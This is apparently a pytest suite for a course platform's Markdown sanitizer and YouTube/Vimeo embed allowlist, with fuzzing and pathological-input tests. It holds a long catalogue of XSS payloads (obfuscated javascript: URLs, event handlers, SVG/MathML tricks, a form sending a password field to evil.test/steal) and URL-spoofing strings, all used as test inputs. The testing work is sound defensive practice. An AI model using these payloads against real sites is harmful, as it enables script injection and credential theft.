"""The Markdown sanitizer against XSS payloads, and the video allowlist.

Every payload's output is parsed with html.parser and must contain no disallowed tag, no event
handler attribute, and no URL attribute with a scheme other than http, https or mailto.
"""

from __future__ import annotations

import html
import re
import time
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from courses.content import (
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    MAX_MARKDOWN_CHARS,
    MAX_MARKDOWN_NESTING,
    MarkdownRefused,
    render_markdown,
    sanitize_html,
    video_embed_url,
)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "cite"}

XSS_PAYLOADS = [
    # Script tags, plain and obfuscated
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/xss src=//evil.test/x.js></script>",
    # Event handlers
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    '<body onload="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.test" onmouseover="alert(1)">hover</a>',
    '<div onpointerenter=alert(1)>x</div>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    # javascript: URLs, with case, entities, whitespace and control characters
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](&#106;avascript:alert(1))",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    # data: and other schemes
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    # Frames and embedded objects
    '<iframe src="https://evil.test"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="https://evil.test/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="https://evil.test/x.swf">',
    '<applet code="x.class"></applet>',
    # SVG and MathML tricks
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # Styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    # Meta refresh and base
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    # Forms
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<form action="https://evil.test/steal"><input name="password"></form>',
    '<input type="image" src="x" formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    # Comments, CDATA and templates used to smuggle markup
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<a href="https://ok.test" target="_blank">new tab</a>',
    # Markdown that produces raw attributes
    '[x](https://ok.test "title\\" onmouseover=\\"alert(1)")',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    "<a href='//evil.test'>protocol-relative</a>",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _scheme(url: str) -> str | None:
    # How a browser reads it: entities decoded, leading spaces and control characters ignored,
    # tabs and newlines inside the URL removed.
    value = html.unescape(url)
    value = re.sub(r"[\x00-\x20]+", "", value) if re.match(r"^[\x00-\x20]", value) else value
    value = value.replace("\t", "").replace("\n", "").replace("\r", "")
    match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):", value)
    return match.group(1).lower() if match else None


def assert_not_executable(output: str) -> None:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, f"disallowed tag <{tag}> in {output!r}"
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"event handler {name} in {output!r}"
            assert name.lower() not in {"style", "srcdoc", "formaction", "action"}, f"{name} in {output!r}"
            if name.lower() in URL_ATTRIBUTES and value:
                scheme = _scheme(value)
                assert scheme is None or scheme in ALLOWED_URL_SCHEMES, f"{name}={value!r} in {output!r}"
    assert "<script" not in output.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_markdown_output_is_never_executable(payload):
    assert_not_executable(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitized_html_is_never_executable(payload):
    assert_not_executable(sanitize_html(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizing_twice_changes_nothing(payload):
    # What is stored in body_html is a fixed point: re-sanitizing cannot reveal anything new.
    once = render_markdown(payload)
    assert sanitize_html(once) == once


def _links(output: str) -> list[dict[str, str | None]]:
    collector = _Collector()
    collector.feed(output)
    return [dict(attrs) for tag, attrs in collector.tags if tag == "a"]


def test_links_get_noopener_noreferrer():
    output = render_markdown("[our site](https://example.com) and <a href='https://example.org' rel='opener'>x</a>")
    links = _links(output)
    assert len(links) == 2
    for link in links:
        assert set((link["rel"] or "").split()) == {"noopener", "noreferrer"}


def test_markdown_keeps_ordinary_formatting():
    output = render_markdown(
        "## Greeting\n\n**Within ten seconds**, *every* time.\n\n- eye contact\n- smile\n\n"
        "[standard](https://example.com/s1) · <mailto:desk@example.com>\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for fragment in ("<h2>", "<strong>", "<em>", "<ul>", "<li>", "<table>", 'href="https://example.com/s1"', "mailto:"):
        assert fragment in output


def test_raw_html_text_is_escaped_not_dropped():
    output = render_markdown("Say <b>hello</b> and 3 < 4 & 5 > 2")
    assert "<b>hello</b>" in output
    assert "3 &lt; 4 &amp; 5 &gt; 2" in output


@pytest.mark.parametrize(
    "source",
    [
        "![pixel](/learn/courses/1/check/)",
        '<img src="/learn/courses/1/lessons/2/">',
        '<img src="https://servicecraft.example/learn/courses/1/check/">',
    ],
)
def test_images_are_not_kept(source):
    # Under the site's CSP (img-src 'self' data:) the only images a browser would load are the
    # site's own URLs: an <img> in a lesson would make every reader's browser GET them (the
    # knowledge check starts an attempt on GET). Images are therefore not part of the allowlist.
    output = render_markdown(source)
    assert "<img" not in output and "/learn/" not in output


def test_empty_input():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_tables_strikethrough_and_fenced_code_are_rendered():
    output = render_markdown("~~gone~~\n\n```\n<b>code</b>\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<s>gone</s>" in output
    assert "<pre><code>&lt;b&gt;code&lt;/b&gt;\n</code></pre>" in output
    assert '<td align="left">1</td>' in output or "<td>1</td>" in output


# --- Pathological input: bounded time, a clear refusal instead of a crash or a hang -------------------
# Each of these gave a 500 (or held a worker for 31 s, then a 500) with Python-Markdown.


def _nested_list(depth: int) -> str:
    return "".join("  " * level + f"- item {level}\n" for level in range(depth)) + "\nAfter the list.\n"


def test_repeated_definition_list_items_render_as_text():
    # 600 "term / : definition" pairs (3.6 KB) crashed Python-Markdown's def_list extension.
    source = "Term\n: definition\n" * 600
    output = render_markdown(source)
    assert output.startswith("<p>Term\n: definition") and output.count(": definition") == 600


def test_a_list_nested_deeper_than_the_limit_is_refused():
    # 500 levels gave a RecursionError; with markdown-it alone, everything past its nesting cap is
    # silently dropped. Refused instead, with a message that says why.
    for source in (_nested_list(MAX_MARKDOWN_NESTING + 1), "- " * 500 + "deep\n\nAfter the list.\n"):
        with pytest.raises(MarkdownRefused, match="nested too deeply"):
            render_markdown(source)


def test_a_list_nested_to_the_limit_is_rendered_whole():
    output = render_markdown(_nested_list(MAX_MARKDOWN_NESTING))
    assert output.count("<ul>") == MAX_MARKDOWN_NESTING
    assert f"item {MAX_MARKDOWN_NESTING - 1}" in output and "<p>After the list.</p>" in output


@pytest.mark.parametrize(
    "source",
    [
        "> " * (MAX_MARKDOWN_NESTING + 1) + "quoted",
        "> - " * (MAX_MARKDOWN_NESTING // 2 + 1) + "mixed",
        "1. " * (MAX_MARKDOWN_NESTING + 1) + "ordered",
        "> " * 5000 + "very deep",
    ],
)
def test_quotes_and_mixed_containers_nested_too_deeply_are_refused(source):
    with pytest.raises(MarkdownRefused, match="nested too deeply"):
        render_markdown(source)


def test_quotes_nested_to_the_limit_are_rendered():
    output = render_markdown("> " * MAX_MARKDOWN_NESTING + "quoted\n\nafter")
    assert output.count("<blockquote>") == MAX_MARKDOWN_NESTING and "<p>after</p>" in output


def test_a_text_over_the_size_limit_is_refused_and_one_at_the_limit_is_rendered():
    assert render_markdown("a" * MAX_MARKDOWN_CHARS) == "<p>" + "a" * MAX_MARKDOWN_CHARS + "</p>"
    with pytest.raises(MarkdownRefused, match="too long") as refusal:
        render_markdown("a" * (MAX_MARKDOWN_CHARS + 1))
    assert f"{MAX_MARKDOWN_CHARS + 1:,} characters" in refusal.value.messages[0]


@pytest.mark.parametrize("unit", ["[", "![", "[a](", "*a", "_a ", "`a", "<a ", "&#", "[a]: b\n"])
def test_unclosed_brackets_and_delimiters_render_in_linear_time(unit):
    # 16,000 "[" held a Python-Markdown worker for 31 s. The bound here is generous (a loaded CI
    # machine), yet far below what a quadratic renderer needs for this size.
    source = unit * (8000 // len(unit))
    started = time.perf_counter()
    render_markdown(source)
    assert time.perf_counter() - started < 5


def test_a_nul_byte_is_replaced_not_passed_through():
    assert "\x00" not in render_markdown("a\x00b")


# Text built from the characters and fragments that Markdown gives meaning to, so that the fuzzer
# explores unclosed brackets, emphasis runs, nesting, tables and raw HTML rather than plain words.
_FRAGMENTS = [
    "[", "]", "(", ")", "![", "](", "*", "**", "_", "`", "```", "~~", "<", ">", "<a href=", "</a>",
    "\\", "&#", "&amp;", ";", "|", "|-|", ": ", "- ", "1. ", "# ", "> ", "  ", "    ", "\t", "\n",
    "\n\n", "a", "word ", "http://x.test", "javascript:", "<script>", "<img src=x onerror=", "\"", "'",
    "\x00", "é",
]
_markdownish = st.lists(st.sampled_from(_FRAGMENTS) | st.text(max_size=3), max_size=400).map("".join)


def _render_or_refuse(source: str) -> str | None:
    try:
        return render_markdown(source)
    except MarkdownRefused:
        return None


@settings(max_examples=300, deadline=timedelta(seconds=1), suppress_health_check=[HealthCheck.too_slow])
@given(_markdownish)
def test_fuzz_renderer_is_quick_and_its_output_safe(source):
    output = _render_or_refuse(source)
    if output is not None:
        assert_not_executable(output)
        assert sanitize_html(output) == output


@settings(max_examples=20, deadline=timedelta(seconds=5), suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=8).map("".join))
def test_fuzz_a_pattern_repeated_to_a_large_size_renders_in_bounded_time(pattern):
    # Superlinear behavior shows only at size: repeat a small pattern to 20,000 characters. The
    # worst such text takes about 0.3 s on an idle machine (the deadline allows for a loaded CI
    # machine); Python-Markdown needed minutes for 20,000 "[".
    _render_or_refuse(pattern * (20_000 // len(pattern)))


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("http://m.youtube.com/watch?v=dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://youtu.be/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://youtu.be/dQw4w9WgXcQ?si=abc", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://www.youtube.com/embed/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://www.youtube.com/shorts/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("  https://WWW.YOUTUBE.COM/watch?v=dQw4w9WgXcQ  ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871?dnt=1"),
        ("https://www.vimeo.com/76979871", "https://player.vimeo.com/video/76979871?dnt=1"),
        ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871?dnt=1"),
        ("https://vimeo.com/channels/staffpicks/76979871", "https://player.vimeo.com/video/76979871?dnt=1"),
    ],
)
def test_video_embed_url_accepts_youtube_and_vimeo(url, expected):
    assert video_embed_url(url) == expected


@pytest.mark.parametrize(
    "url",
    [
        "",
        None,
        "javascript:alert(1)",
        "JavaScript://www.youtube.com/%0Aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "//www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://evil.test/watch?v=dQw4w9WgXcQ",
        "https://youtube.com.evil.test/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ",
        "https://evilyoutube.com/watch?v=dQw4w9WgXcQ",
        "https://youtu.be.evil.test/dQw4w9WgXcQ",
        "https://vimeo.com.evil.test/76979871",
        "https://evil.test/vimeo.com/76979871",
        "https://www.youtube.com@evil.test/watch?v=dQw4w9WgXcQ",
        "https://evil.test#https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://evil.test/?u=https://youtu.be/dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ%22onload%3D",
        "https://www.youtube.com/watch?v=short",
        "https://www.youtube.com/embed/dQw4w9WgXcQ/../../evil",
        "https://youtu.be/dQw4w9WgXcQ\"><script>alert(1)</script>",
        "https://vimeo.com/abc",
        "https://player.vimeo.com/video/../../evil",
        "https://www.youtube.com/playlist?list=PL123",
    ],
)
def test_video_embed_url_rejects_everything_else(url):
    assert video_embed_url(url) is None


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ&v=../../x", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ('https://vimeo.com/76979871?x="><script>', "https://player.vimeo.com/video/76979871?dnt=1"),
        ("https://youtu.be/dQw4w9WgXcQ#\"onload=alert(1)", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
    ],
)
def test_video_embed_url_is_built_only_from_the_validated_id(url, expected):
    # Whatever else the address carries (extra parameters, fragments, markup) never reaches the player URL.
    assert video_embed_url(url) == expected
